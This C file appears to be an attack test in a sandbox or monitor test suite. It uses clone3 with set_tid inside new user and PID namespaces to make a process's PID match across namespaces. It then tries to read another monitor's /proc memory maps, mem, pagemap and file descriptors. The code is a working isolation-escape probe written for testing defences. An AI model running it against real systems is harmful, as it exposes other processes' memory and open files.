// A process chooses its number in a pid namespace of its own (clone3(2), set_tid), until it is the one that it has in the
// container's /proc. Then a monitor that compares numbers takes the container's /proc for one with its own numbers: below the
// number of another process of the new namespace, whose monitor it does not know, it shows what the kernel shows.
#include "attack.h"
#include <dirent.h>
#include <linux/sched.h>

// The program's own descriptors are below.
#define PROGRAMS 8

static int outer_number(void) {
    char link[16] = "";
    return readlink("/proc/self", link, sizeof link - 1) > 0 ? atoi(link) : -1;
}

// A process forked with the number `inner`, or -1.
static pid_t fork_as(pid_t inner) {
    struct clone_args args = {.exit_signal = SIGCHLD, .set_tid = (uintptr_t)&inner, .set_tid_size = 1};
    return (pid_t)syscall(SYS_clone3, &args, sizeof args);
}

// Looks at process `other`, a process of the same program, by its number in the container's /proc.
static void look(int other) {
    char path[64], text[256];
    static const char *const names[] = {"maps", "mem", "auxv", "syscall", "pagemap"};
    for (unsigned i = 0; i < sizeof names / sizeof *names; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", other, names[i]);
        int fd = open(path, O_RDONLY);
        if (fd >= 0 && read(fd, text, sizeof text) > 0)
            attack_won("%s of another monitor", names[i]);
        close(fd);
    }
    for (int fd = PROGRAMS; fd < 1300; fd++) {
        snprintf(path, sizeof path, "/proc/%d/fdinfo/%d", other, fd);
        if (open(path, O_RDONLY) >= 0)
            attack_won("fdinfo of the descriptor %d of another monitor", fd);
    }
    snprintf(path, sizeof path, "/proc/%d/fd", other);
    DIR *dir = opendir(path);
    for (struct dirent *e; dir && (e = readdir(dir));)
        if (atoi(e->d_name) >= PROGRAMS)
            attack_won("a listing shows the descriptor %s of another monitor", e->d_name);
    if (dir)
        closedir(dir);
}

// The first process of the namespace; the attacker looks at it.
static void first(void *unused) {
    (void)unused;
    int equal = 0, me = outer_number();
    for (int guess = me + 1, tries = 0; !attack_over() && tries < 400 && equal < 3; tries++) {
        int status = 0, seen = 0, p[2];
        if (pipe(p) < 0)
            attack_broken("pipe");
        pid_t pid = fork_as(guess);
        if (pid == 0) {
            seen = outer_number();
            if (write(p[1], &seen, sizeof seen) != sizeof seen)
                _exit(1);
            close(p[0]);
            close(p[1]);
            if (seen == getpid())
                look(me);
            _exit(seen == getpid() ? 7 : 0);
        }
        if (pid < 0 && errno != EEXIST)
            attack_broken("clone3 with set_tid");
        if (pid > 0) {
            if (read(p[0], &seen, sizeof seen) < 0)
                attack_broken("read");
            waitpid(pid, &status, 0);
        }
        close(p[0]);
        close(p[1]);
        if (attack_child_won(status))
            _exit(ATTACK_WON);
        equal += WIFEXITED(status) && WEXITSTATUS(status) == 7;
        guess = seen > 0 ? seen + 1 + tries % 3 : guess + 1;
    }
    if (!equal)
        attack_broken("no number was equal");
    attack_lost();
}

int main(void) {
    int status = 0;
    if (unshare(CLONE_NEWUSER | CLONE_NEWPID) < 0)
        attack_broken("unshare");
    pid_t pid = fork();
    if (pid == 0)
        first(NULL);
    waitpid(pid, &status, 0);
    _exit(WIFEXITED(status) ? WEXITSTATUS(status) : 3);
}
